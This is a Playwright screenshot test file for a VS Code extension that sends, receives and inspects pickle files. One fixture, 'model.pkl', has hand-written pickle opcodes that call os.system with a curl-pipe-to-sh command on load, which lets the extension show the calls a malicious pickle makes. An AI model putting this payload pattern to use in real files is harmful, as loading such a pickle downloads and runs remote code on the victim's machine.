import fs from 'node:fs';
import path from 'node:path';
import type { FrameLocator, Locator } from 'playwright-core';
import { pickleCodec } from '../../src/core/codecs/pickle/codec';
import { FernetKey } from '../../src/core/crypto/keys';
import { Dict, Tuple, ValueSet, type Value } from '../../src/core/values/value';
import { findFreePort } from '../../src/net/ports';
import { sendEncrypted, sendHalf, sendNative } from './sending';
import { itWalksThrough, MEASUREMENTS as WALKTHROUGH_MEASUREMENTS } from './walkthrough';
import { Workbench } from './workbench';

/** What the desktop VS Code does not have in its status bar. */
const BROWSER_ONLY = ['status\\.host', 'status\\.forwardedPorts', 'status\\.workbench\\.keyboardLayout'];

const REPORT = `# Run 7

The jars of shelf **B** were pickled at 4.75 V.

| jar    | volume | sour |
| ------ | ------ | ---- |
| dill   | 0.7 l  | yes  |
| kosher | 1.5 l  | no   |

To do: measure shelf C.
`;

const MEASUREMENTS = `{
  "station": "Lab 3",
  "voltage": { "mean": 4.75, "peak": 230.5 },
  "jars": ["dill", "kosher"]
}
`;

function encode(value: Value): Uint8Array {
  return pickleCodec.encode(value, { nestingDepth: 100 });
}

function experiment(mean: number, tags: readonly string[]): Dict {
  const calibration = Dict.from([
    ['offset', 0.125],
    ['unit', 'mV'],
  ]);
  const voltage = Dict.from([
    ['mean', mean],
    ['samples', [0.25, -0.0, 1e-7]],
    ['calibration', calibration],
  ]);
  return Dict.from([
    ['name', 'Pickling run 7'],
    [
      'readings',
      Dict.from([
        ['voltage', voltage],
        ['current', calibration],
      ]),
    ],
    ['shape', new Tuple([3n, 4n])],
    ['tags', ValueSet.from(tags)],
    ['header', Uint8Array.from({ length: 40 }, (_, i) => i * 6)],
    ['seed', 2n ** 90n],
    ['valid', true],
    ['note', null],
  ]);
}

/** A model that somebody has sent, which runs a command when it is loaded. */
function model(): Buffer {
  const weights = (count: number): Value[] =>
    Array.from({ length: count }, (_, i) => (((i * 37) % 200) - 100) / 100);
  const layer = (units: bigint, count: number): Dict =>
    Dict.from([
      ['kind', 'dense'],
      ['units', units],
      ['weights', weights(count)],
    ]);
  const plain = encode(
    Dict.from([
      ['name', 'jar-classifier'],
      ['labels', new Tuple(['dill', 'sour', 'kosher'])],
      ['layers', [layer(64n, 250), layer(3n, 192)]],
      ['learning_rate', 0.001],
      ['epochs', 40n],
      ['hash', Uint8Array.from({ length: 16 }, (_, i) => 7 + i * 13)],
      ['parent', null],
    ]),
  );
  const calls =
    "S'trained'\ncdatetime\ndatetime\n(I2026\nI1\nI31\nI12\nI30\ntRs" +
    "S'on_load'\ncos\nsystem\n(S'curl -s http://203.0.113.9/setup.sh | sh'\ntRs.";
  return Buffer.concat([plain.subarray(0, -1), Buffer.from(calls, 'latin1')]);
}

describe('the pictures of the README', () => {
  let workbench: Workbench;
  let port: number;

  before(async () => {
    port = await findFreePort('127.0.0.1', 28_000);
    const key = FernetKey.generate();
    const away = await findFreePort('127.0.0.1', 29_000);
    workbench = await Workbench.open({
      window: { width: 1024, height: 640, scale: 1.25 },
      settings: {
        'picklepost.receive.port': port,
        'picklepost.send.encryption': 'always',
        'picklepost.destinations': [
          { name: 'Lab', host: '127.0.0.1', port },
          { name: 'Office', host: '127.0.0.1', port: away },
        ],
        'breadcrumbs.enabled': false,
        'editor.minimap.enabled': false,
        'editor.scrollbar.vertical': 'hidden',
        'editor.stickyScroll.enabled': false,
        'window.title': '${activeEditorShort}',
      },
      files: {
        'report.md': REPORT,
        'measurements.json': MEASUREMENTS,
        'jars.csv': 'jar,volume\ndill,0.7\nkosher,1.5\n',
        'model.pkl': model(),
        'lab.key': key.toText(),
      },
    });
    await hideBrowserItems(workbench);
    await workbench.runCommand('Picklepost: Import encryption key from file');
    await workbench.chooseFile(path.join(workbench.folder, 'lab.key'));
    await workbench.notification(/Imported the encryption key/);
    await workbench.clearToasts();
    fs.rmSync(path.join(workbench.folder, 'lab.key'));
    await workbench.runCommand('Picklepost: Start receive server');
    await workbench.statusBarItem(String(port)).waitFor();
    const note = Buffer.from('Shelf B is full.\n');
    await sendNative(port, { kind: 'text', name: 'note.txt', bytes: note });
    const values = encode(
      Dict.from([
        ['jars', 12n],
        ['sour', true],
      ]),
    );
    await sendEncrypted(port, key, {
      kind: 'dictionary',
      format: 'binary',
      name: 'shelf.pkl',
      bytes: values,
    });
    await sendHalf(port, path.join(workbench.directory, 'film.mp4'), 6 * 1024 * 1024);
    await workbench.clearToasts();
  });
  after(() => workbench.close());

  async function send(file: string, title: string, ...answers: string[]): Promise<void> {
    await workbench.openFile(file);
    await workbench.runCommand(`Picklepost: ${title}`);
    for (const answer of answers) await workbench.pick(answer);
  }

  function received(name: string): Locator {
    return workbench.view('Received').pane.locator(`.monaco-list-row[aria-label^="${name}"]`);
  }

  it('show a pickle file, with the calls that loading it would make', async () => {
    await workbench.openFile('model.pkl');
    const page: FrameLocator = workbench.page
      .frameLocator('iframe.webview.ready')
      .frameLocator('#active-frame');
    const row = (label: RegExp): Locator => page.getByRole('treeitem', { name: label });
    await row(/^layers, list/).click();
    await row(/^0, dict/).click();
    await page.getByRole('searchbox').fill('weights');
    await page.getByText('2 found').waitFor();
    await page.getByRole('searchbox').press('Enter');
    await page.getByText('1 of 2').waitFor();
    await workbench.page.mouse.move(0, 0);
    await workbench.screenshot('readme-pickle');
  });

  it('show sent and received items', async () => {
    await workbench.setSideBarWidth(400);
    await send('jars.csv', 'Send file to server', 'Office');
    await workbench.answerNotification(/Nothing listens/, 'Wait for it');
    await send('measurements.json', 'Send dictionary to server', 'Lab', 'Pickle');
    await workbench.notification(/Sent measurements\.pkl/);
    await workbench.clearToasts();
    await workbench.openContainer('Picklepost');
    await workbench.view('Sent').setOpen(true);
    await workbench.closeEditors();
    await send('report.md', 'Send file to server', 'Lab');
    await workbench.notification(/Sent report\.md/);
    await workbench.toast(/Sending/).waitFor({ state: 'detached' });
    await workbench.screenshot(
      'readme-sent',
      workbench.toast(/Received .*report\.md/),
      received('report.md'),
    );
    await workbench.clearToasts();
  });

  it('show a received dictionary, with the type of every value', async () => {
    await workbench.setTheme('dark');
    await workbench.view('Sent').setOpen(false);
    for (const [name, mean, tags] of [
      ['monday.pkl', 4.5, ['sour', 'dill']],
      ['tuesday.pkl', 4.75, ['sour', 'dill', 'kosher']],
    ] as const) {
      await sendNative(port, {
        kind: 'dictionary',
        format: 'binary',
        name,
        bytes: encode(experiment(mean, tags)),
      });
      await received(name).waitFor();
    }
    const view = workbench.view('Received');
    await workbench.closeEditors();
    await workbench.selectForCompare(await view.row('monday.pkl'));
    await view.chooseFromMenu(['tuesday.pkl'], 'Compare with selected');
    await workbench.tab('monday.pkl ↔ tuesday.pkl').waitFor();
    await workbench.clearToasts();
    await view.expand('tuesday.pkl', 'readings', 'voltage', 'samples');
    await view.expand('tuesday.pkl', 'tags');
    await workbench.runCommand('View: Focus Active Editor Group');
    await workbench.page.keyboard.press('Control+Home');
    await (await view.row('tuesday.pkl')).hover();
    await workbench.screenshot('readme-inspect', workbench.page.locator('.line-insert').first());
  });
});

describe('the pictures of the walkthrough', () => {
  let workbench: Workbench;
  let port: number;

  before(async () => {
    port = await findFreePort('127.0.0.1', 25_500);
    workbench = await Workbench.open({
      window: { width: 840, height: 540, scale: 1.5 },
      settings: {
        'picklepost.receive.port': port,
        'picklepost.destinations': [{ name: 'Lab', host: '127.0.0.1', port }],
        'breadcrumbs.enabled': false,
        'editor.minimap.enabled': false,
        'window.title': '${activeEditorShort}',
      },
      files: { 'measurements.json': WALKTHROUGH_MEASUREMENTS },
    });
    await hideBrowserItems(workbench);
    await workbench.setSideBarWidth(380);
  });
  after(() => workbench.close());

  itWalksThrough(
    () => ({ workbench, port, server: 'Lab' }),
    (name, ...shown) => workbench.screenshot(name, ...shown),
  );
});

async function hideBrowserItems({ page }: Workbench): Promise<void> {
  const hidden = BROWSER_ONLY.map((id) => `#${id} { display: none !important; }`);
  await page.addStyleTag({ content: hidden.join('\n') });
}
